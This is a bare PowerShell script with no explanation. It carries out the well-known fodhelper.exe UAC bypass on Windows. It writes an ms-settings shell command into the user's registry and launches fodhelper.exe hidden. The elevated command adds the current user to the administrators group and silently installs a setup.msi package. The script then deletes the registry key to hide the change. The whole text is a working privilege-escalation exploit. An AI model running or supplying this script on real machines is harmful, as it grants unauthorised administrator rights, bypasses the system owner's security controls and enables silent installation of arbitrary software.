$cmd = "cmd /c net localgroup administrators $env:USERNAME /add & msiexec /i `"$PWD\setup.msi`" /qn"
$k = 'HKCU:\Software\Classes\ms-settings\Shell\Open\command'
New-Item $k -Force | Out-Null
New-ItemProperty $k -Name 'DelegateExecute' -Value '' -Force | Out-Null
Set-ItemProperty $k -Name '(default)' -Value $cmd -Force
Start-Process 'C:\Windows\System32\fodhelper.exe' -WindowStyle Hidden
Start-Sleep 3
Remove-Item 'HKCU:\Software\Classes\ms-settings' -Recurse -Force
